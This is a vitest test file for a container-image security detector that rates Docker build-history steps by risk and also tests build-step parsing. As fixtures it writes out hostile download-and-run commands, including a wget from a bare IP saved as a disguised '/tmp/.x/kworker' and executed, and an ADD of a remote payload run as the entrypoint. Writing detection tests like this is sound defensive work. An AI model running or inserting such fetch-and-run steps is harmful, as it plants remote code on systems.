// Tests for image-build-step: apt-get, a download that is only saved and one unpacked with tar are
// clean; a vendor's https installer piped into bash is medium (a common shortcut, not proof of a
// miner); a download from a bare IP run from /tmp, and an ADD of a URL the entrypoint runs, are high;
// the build-argument and SHELL forms of created_by are read; without an image section, skipped.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import { makeSnapshot } from '../../../test/helpers/snapshot-builders.js';
import {
  imageSnapshot,
  imageWith,
  nginxImage,
  unreadImageSnapshot,
} from '../../../test/helpers/image-snapshot-builders.js';
import { parseBuildStep, shellPrefixLength } from '../image.js';
import { runDetectors } from '../run.js';
import { imageBuildStep } from './image-build-step.js';

const ruleset = await loadRuleset([defaultIocDir()]);

const NODESOURCE = 'RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_20.x | bash - # buildkit';

describe('image-build-step', () => {
  it('clean: apt-get, a tool only downloaded, an archive unpacked with tar', () => {
    const tools = imageWith({
      ref: 'registry.example/tools:1',
      steps: [
        'ADD file:0a1b2c in / ',
        'RUN /bin/sh -c curl -fsSLo /usr/local/bin/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x /usr/local/bin/kubectl # buildkit',
        '|1 GO_VERSION=1.22.4 /bin/sh -c wget -qO- https://go.dev/dl/go1.22.4.linux-amd64.tar.gz | tar -xz -C /usr/local',
      ],
    });
    expect(runDetectors(imageSnapshot([nginxImage(), tools]), ruleset, [imageBuildStep])).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: a vendor installer piped into bash is medium', () => {
    // Medium, not high or critical: the Node.js images' own recipe installs this way, the URL is a
    // named vendor host over TLS, and the step ran once on a builder. What it fetched is in the
    // layer, where image-content judges it; a miner there would raise the image's finding.
    const img = imageWith({ ref: 'registry.example/web:5', steps: ['ADD file:0a1b2c in / ', NODESOURCE] });
    const { findings } = runDetectors(imageSnapshot([img]), ruleset, [imageBuildStep]);
    expect(findings).toHaveLength(1);
    const [f] = findings;
    expect(FindingSchema.parse(f)).toEqual(f);
    expect(f).toMatchObject({
      kind: 'container-image',
      level: 'medium',
      basis: 'config',
      messageId: 'pipesToInterpreter',
      data: { step: 1, layer: 1, url: 'https://deb.nodesource.com/setup_20.x', downloader: 'curl' },
      remediate: [],
    });
    expect(f!.evidence[0]).toEqual({
      type: 'image',
      image: 'registry.example/web:5',
      digest: img.digest,
      layer: { index: 1, digest: img.layers[1]!.digest },
      createdBy: NODESOURCE,
    });
    expect(f!.message.en).toContain('review what that URL served');
  });

  it('findings: a bare-IP download run from /tmp and an ADD of a URL the entrypoint runs are high', () => {
    const img = imageWith({
      ref: 'docker.io/evil/base:latest',
      config: { entrypoint: ['/usr/local/bin/payload'] },
      steps: [
        'ADD file:0a1b2c in / ',
        '/bin/bash -o pipefail -c wget -q http://198.51.100.9/k -O /tmp/.x/kworker && chmod +x /tmp/.x/kworker && /tmp/.x/kworker',
        'ADD https://198.51.100.9/payload /usr/local/bin/payload # buildkit',
      ],
    });
    const { findings } = runDetectors(imageSnapshot([img]), ruleset, [imageBuildStep]);
    expect(findings).toHaveLength(1);
    const [f] = findings;
    expect(f!.level).toBe('high');
    expect(f!.signals.map((s) => [s.messageId, s.level, s.data?.step])).toEqual([
      ['savesAndRuns', 'high', 1],
      ['addedThenRun', 'high', 2],
    ]);
    expect(f!.signals[0]!.message.en).toBe(
      'docker.io/evil/base:latest: build step 1 downloads http://198.51.100.9/k with wget to /tmp/.x/kworker and runs it — it fetches from a bare IP address (198.51.100.9)',
    );
    expect(f!.signals[1]!.data).toMatchObject({
      path: '/usr/local/bin/payload',
      url: 'https://198.51.100.9/payload',
    });
  });

  it('findings: created_by is read in the forms docker, BuildKit and buildah write', () => {
    expect(parseBuildStep('/bin/sh -c #(nop)  CMD ["nginx" "-g" "daemon off;"]')).toEqual({
      instruction: 'CMD',
      text: '["nginx" "-g" "daemon off;"]',
    });
    expect(parseBuildStep('RUN |2 A=1 B=2 /bin/sh -c make install # buildkit')).toEqual({
      instruction: 'RUN',
      text: 'make install',
    });
    expect(parseBuildStep('/bin/sh -ec make install')).toEqual({ instruction: 'RUN', text: 'make install' });
    expect(parseBuildStep('ADD https://x.example/a /a # buildkit')).toEqual({
      instruction: 'ADD',
      text: 'https://x.example/a /a',
    });
  });

  it('the shell prefix is the one the regex it replaced found, and a hostile history line costs its length', () => {
    // The regex, kept here as the definition: exponential on `sh -o -o -o …` (22 s for 44).
    const regex = /^(?:\/\S*\/)?(?:ba|da|a|z)?sh(?:\s+-o\s+\S+|\s+-[a-bd-z]+)*\s+-[a-z]*c\s+/;
    const words = [
      'sh',
      '/bin/sh',
      '/bin/bash',
      'zsh',
      'xsh',
      '/sh',
      '-o',
      'pipefail',
      '-e',
      '-ec',
      '-c',
      '-cx',
      '-oc',
      '-',
      'x',
    ];
    let seed = 20261205;
    const rand = () => (seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32;
    for (let k = 0; k < 20_000; k++) {
      let s = '';
      const n = 1 + Math.floor(rand() * 8);
      const pick = (list: string[]) => list[Math.floor(rand() * list.length)] as string;
      for (let j = 0; j < n; j++) s += (j ? pick([' ', '  ', '\t']) : '') + pick(words);
      if (rand() < 0.2) s += ' ';
      expect(shellPrefixLength(s), JSON.stringify(s)).toBe(regex.exec(s)?.[0].length ?? -1);
    }
    const started = Date.now();
    expect(parseBuildStep(`|1 A=b /bin/sh${' -o'.repeat(100_000)} x`).text).toMatch(/^\/bin\/sh -o -o /);
    expect(parseBuildStep(`/bin/sh -o -o -c echo${' '.repeat(1 << 20)}a #buildkit`).text).toMatch(
      /^echo +a$/,
    );
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it('skipped: an image target whose archive could not be read; not applicable on a host', () => {
    expect(runDetectors(unreadImageSnapshot(), ruleset, [imageBuildStep])).toEqual({
      findings: [],
      skipped: [{ ruleId: 'image-build-step', missing: ['image'] }],
    });
    expect(runDetectors(makeSnapshot({}), ruleset, [imageBuildStep])).toEqual({ findings: [], skipped: [] });
  });
});
